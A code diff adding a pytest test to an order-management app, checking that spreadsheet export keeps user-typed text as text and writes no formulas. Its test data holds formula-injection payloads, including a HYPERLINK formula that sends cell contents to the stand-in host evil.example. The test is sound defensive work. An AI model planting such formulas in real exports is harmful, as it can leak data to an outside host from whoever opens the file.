@@ -323,3 +323,29 @@ def test_cli_import_and_export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, 
     assert "找不到文件" in capsys.readouterr().out
     assert main(["export", "orders", str(tmp_path / "e.xlsx"), "--from", "2026-01-01"]) == 0
     assert load_workbook(tmp_path / "e.xlsx")["订单"].max_row == 1
+
+
+async def test_export_never_writes_formulas(db: Database, tmp_path: Path) -> None:
+    """Text that people typed stays text in the workbook (no formula injection)."""
+    from openpyxl import load_workbook
+
+    from storage.models import Customer, Order, OrderLine, Person
+
+    async with db.uow() as uow:
+        person = Person(platform="local", user_id="u1", name="=1+1", roles=[])
+        customer = Customer(name='=HYPERLINK("http://evil.example/?x="&A2,"x")')
+        uow.session.add_all([person, customer])
+        await uow.session.flush()
+        uow.session.add(Order(no=1, customer_id=customer.id, owner_id=person.id, state="CONFIRMED",
+                              origin_platform="local", origin_chat_id="g1", row_version=1,
+                              created_at=datetime(2026, 11, 27, tzinfo=UTC),
+                              updated_at=datetime(2026, 11, 27, tzinfo=UTC),
+                              lines=[OrderLine(line_no=1, sku="@SUM(A1)", qty=1, unit_price=10, shipped_qty=0)]))
+    out = tmp_path / "x.xlsx"
+    from handlers.importing import run_export
+
+    await run_export(db, out, None, None, ZoneInfo("Asia/Shanghai"))
+    wb = load_workbook(out)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") for c in cells)
